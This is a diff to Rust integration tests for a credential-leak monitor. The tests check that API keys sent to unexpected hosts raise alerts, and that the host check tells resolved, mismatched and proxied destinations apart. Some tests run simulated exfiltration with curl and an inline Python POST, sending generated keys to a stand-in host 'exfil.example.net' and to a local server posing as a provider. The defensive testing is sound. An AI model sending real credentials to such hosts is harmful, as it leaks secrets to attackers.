@@ -204,41 +204,66 @@ fn curl_as(d: &Daemon, srv: &TlsServer, host: &str, header: &str) -> u32 {
     pid
 }
 
-/// Every agent sends its model key to its provider: that is recorded, not alerted. The
-/// same kind of key sent to another host alerts and names the host.
+/// The action log's finding row for `fp` from `pid`, once written.
+fn finding_row(d: &Daemon, fp: &str, pid: u32, what: &str) -> Value {
+    wait_until(20, what, || {
+        actions(d, &["--fingerprint", fp]).into_iter().find(|r| {
+            s(r, "kind") == "finding" && n(r, "pid") == pid as u64 && s(r, "source") == "socket"
+        })
+    })
+}
+
+/// Every agent sends its model key to its provider: that is recorded, not alerted. But a
+/// name is the sender's own claim: it counts only where it resolves to the peer. Here the
+/// rule's destinations include `localhost`: the key sent under that name to 127.0.0.1 is
+/// expected; sent under its provider's name to this local server (which that name does
+/// not resolve to) it alerts, as it does sent to any other host.
 #[test]
-fn tls_key_sent_to_its_own_provider_is_expected_elsewhere_alerts() {
-    let mut d = Daemon::start("tls-expected");
+fn tls_key_sent_to_its_own_provider_is_expected_only_where_the_name_resolves() {
+    let mut d = Daemon::start_with_config(
+        "tls-expected",
+        "[[destination]]\nrule = \"anthropic-api-key\"\nhosts = [\"localhost\"]\n",
+    );
     let srv = TlsServer::start(&d.scratch());
     tls_ready(&d);
     let (own, own_text) = secret("anthropic-api-key");
     let own_fp = fingerprint(&own);
-    let before = d.metric(
-        "leakwatch_expected_sends_total",
-        &[("rule", "anthropic-api-key")],
-    );
-    let pid = curl_as(
+    let pid = curl_as(&d, &srv, "localhost", &format!("x-api-key: {own_text}"));
+    let row = finding_row(&d, &own_fp, pid, "the send to localhost in the action log");
+    assert_eq!(row["expected"], true, "{row:#}");
+    assert_eq!(s(&row, "host_check"), "resolved", "{row:#}");
+    // The name of the key's own provider, sent to a server that name does not resolve to.
+    let (posing, posing_text) = secret("anthropic-api-key");
+    let posing_fp = fingerprint(&posing);
+    let pid2 = curl_as(
         &d,
         &srv,
         "api.anthropic.com",
-        &format!("x-api-key: {own_text}"),
+        &format!("x-api-key: {posing_text}"),
     );
-    d.wait_metric(
-        "leakwatch_expected_sends_total",
-        &[("rule", "anthropic-api-key")],
-        "the send to api.anthropic.com recorded as expected",
-        |v| v > before,
+    let a = tls_finding(
+        &d,
+        &posing_fp,
+        pid2,
+        "the key sent under its provider's name",
     );
+    assert_eq!(s(&a, "host"), "api.anthropic.com", "{a:#}");
+    assert!(
+        ["unresolved", "mismatch"].contains(&s(&a, "host_check")),
+        "{a:#}"
+    );
+    check(&a, &srv, "curl");
     let (other, other_text) = secret("anthropic-api-key");
     let other_fp = fingerprint(&other);
-    let pid2 = curl_as(
+    let pid3 = curl_as(
         &d,
         &srv,
         "exfil.example.net",
         &format!("x-api-key: {other_text}"),
     );
-    let a = tls_finding(&d, &other_fp, pid2, "the key sent to another host");
+    let a = tls_finding(&d, &other_fp, pid3, "the key sent to another host");
     assert_eq!(s(&a, "host"), "exfil.example.net", "{a:#}");
+    assert!(a.get("host_check").is_none(), "{a:#}");
     check(&a, &srv, "curl");
     // By then the first send has long been through the pipeline: it raised nothing.
     let own_alerts: Vec<Value> = d
@@ -252,7 +277,72 @@ fn tls_key_sent_to_its_own_provider_is_expected_elsewhere_alerts() {
     );
     drop(srv);
     d.stop();
-    d.assert_no_plaintext(&[&own, &other]);
+    d.assert_no_plaintext(&[&own, &posing, &other]);
+}
+
+/// python `http.client` POSTs `key` (read from stdin: in argv it would be a finding of
+/// its own) in a JSON body to `sink` with `Host: host`.
+fn post_as(sink: &HttpSink, host: &str, key: &str) -> u32 {
+    use std::io::Write;
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import http.client, sys\n\
+             c = http.client.HTTPConnection(sys.argv[1], int(sys.argv[2]))\n\
+             c.request('POST', '/v1/chat', '{\"k\": \"' + sys.stdin.read() + '\"}', \
+             {'Host': sys.argv[3]})\n\
+             c.getresponse().read()\n",
+        )
+        .arg(&sink.ip)
+        .arg(sink.port.to_string())
+        .arg(host)
+        .stdin(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    c.stdin.take().unwrap().write_all(key.as_bytes()).unwrap();
+    assert!(wait_exit(&mut c, 30, "python http").success());
+    pid
+}
+
+/// A name sent to an address it does not resolve to alerts as a mismatch and says where
+/// the name does resolve; sent to a declared proxy (whose peer is never the named host)
+/// it is trusted.
+#[test]
+fn a_host_name_counts_only_at_its_own_addresses_or_a_declared_proxy() {
+    let mut d = Daemon::start_with_config(
+        "host-check",
+        "[[destination]]\nrule = \"openai-project-key\"\nhosts = [\"localhost\"]\n\
+         [host_check]\nproxies = [\"127.0.0.3\"]\n",
+    );
+    let elsewhere = HttpSink::start_on("127.0.0.2");
+    let proxy = HttpSink::start_on("127.0.0.3");
+    let (moved, moved_text) = secret("openai-project-key");
+    let moved_fp = fingerprint(&moved);
+    let pid = post_as(&elsewhere, "localhost", &moved_text);
+    let a = wait_until(20, "the key sent as localhost to 127.0.0.2", || {
+        d.findings(&moved_fp)
+            .into_iter()
+            .find(|a| n(a, "pid") == pid as u64 && s(a, "source") == "socket")
+    });
+    assert_eq!(s(&a, "host"), "localhost", "{a:#}");
+    assert_eq!(s(&a, "remote"), elsewhere.addr(), "{a:#}");
+    assert_eq!(s(&a, "host_check"), "mismatch", "{a:#}");
+    assert!(
+        a["host_addresses"]
+            .as_array()
+            .is_some_and(|v| v.iter().any(|x| x == "127.0.0.1")),
+        "{a:#}"
+    );
+    let (proxied, proxied_text) = secret("openai-project-key");
+    let proxied_fp = fingerprint(&proxied);
+    let pid2 = post_as(&proxy, "api.openai.com", &proxied_text);
+    let row = finding_row(&d, &proxied_fp, pid2, "the send through the proxy");
+    assert_eq!(row["expected"], true, "{row:#}");
+    assert_eq!(s(&row, "host_check"), "proxy", "{row:#}");
+    assert!(d.findings(&proxied_fp).is_empty(), "a proxied send alerted");
+    d.stop();
+    d.assert_no_plaintext(&[&moved, &proxied]);
 }
 
 /// Plain HTTP names its host in the `Host:` header.
